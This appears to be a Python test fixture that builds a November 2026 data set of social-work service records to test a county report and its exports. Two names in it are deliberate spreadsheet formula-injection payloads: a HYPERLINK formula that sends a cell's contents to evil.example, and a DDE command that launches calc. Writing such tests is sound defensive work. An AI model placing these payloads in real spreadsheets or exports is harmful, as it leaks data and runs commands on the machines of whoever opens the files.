"""A county's November 2026, built by hand, for the tests of the report and the exports.

The clock stands at 2026-11-20 12:00 in Asia/Shanghai (04:00 UTC). November's local days
run from 2026-10-31 16:00 to 2026-11-30 16:00 UTC.

In November: station A (东风街道社工站) has three records, its room (杏花社区社工室) one,
station B (柳林镇社工站) one; one more of station B's is in October and is not counted.
Person-times: 6 (one record counts 2); hours 1.50 + 0.50 + 2.00 + 1.00 + 0.25 = 5.25.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal

from app.extensions import db
from app.models import ServiceRecord
from tests import factories

NOW = datetime(2026, 11, 20, 4, 0)  # 12:00 local
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
INJECTED_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"
NOVEMBER_PERSON_TIMES = 6
NOVEMBER_HOURS = Decimal("5.25")


@dataclass
class Data:
    world: object
    volunteer: object
    worker_b: object
    team: object
    person: object
    records: list


def record(station, ended_at, category="shopping", *, groups=(), hours="1.00", **kwargs):
    village = kwargs.pop("village", None)
    row = ServiceRecord(
        source=kwargs.pop("source", "claim"),
        station_id=station.id,
        village_id=village.id if village is not None else None,
        category=category,
        special_groups=list(groups),
        ended_at=ended_at,
        hours=Decimal(hours),
        person_times=kwargs.pop("person_times", 1),
        **kwargs,
    )
    db.session.add(row)
    db.session.flush()
    return row


def november(world) -> Data:
    """The data set above; the volunteer's name and a ledger name try formula injection."""
    volunteer = factories.make_volunteer(world.station_a, name=INJECTED, phone="+8613800138000")
    leader = factories.make_volunteer(world.room_a1, name="王队长")
    team = factories.make_team(world.room_a1, leader, name="杏花志愿队")
    worker_b = factories.make_user(roles=("social_worker",), station=world.station_b, name="赵社工")
    person = factories.make_beneficiary(
        world.station_a, world.village_a1, name=INJECTED_PERSON, special_groups=["elderly_alone"]
    )
    records = [
        record(
            world.station_a,
            datetime(2026, 10, 31, 17, 0),  # 1 November, 01:00 local
            "shopping",
            groups=("elderly_alone",),
            hours="1.50",
            village=world.village_a1,
            volunteer_id=volunteer.id,
            beneficiary_id=person.id,
        ),
        record(
            world.station_a,
            datetime(2026, 11, 3, 2, 0),
            "shopping",
            hours="0.50",
            village=world.village_a2,
            volunteer_id=volunteer.id,
        ),
        record(
            world.station_a,
            datetime(2026, 11, 10, 2, 0),
            "meal_delivery",
            groups=("left_behind_child", "dibao"),
            hours="2.00",
            person_times=2,
            village=world.village_a1,
        ),
        record(
            world.room_a1,
            datetime(2026, 11, 12, 2, 0),
            "companionship",
            groups=("elderly_alone",),
            hours="1.00",
            village=world.village_a1,
            team_id=team.id,
            volunteer_id=leader.id,
        ),
        record(
            world.station_b,
            datetime(2026, 11, 15, 2, 0),
            "welfare_call",
            source="call",
            groups=("disabled",),
            hours="0.25",
            village=world.village_b1,
            worker_id=worker_b.id,
        ),
        record(  # October: outside the month
            world.station_b,
            datetime(2026, 10, 31, 15, 59),
            "shopping",
            hours="3.00",
            village=world.village_b1,
        ),
    ]
    return Data(world, volunteer, worker_b, team, person, records)
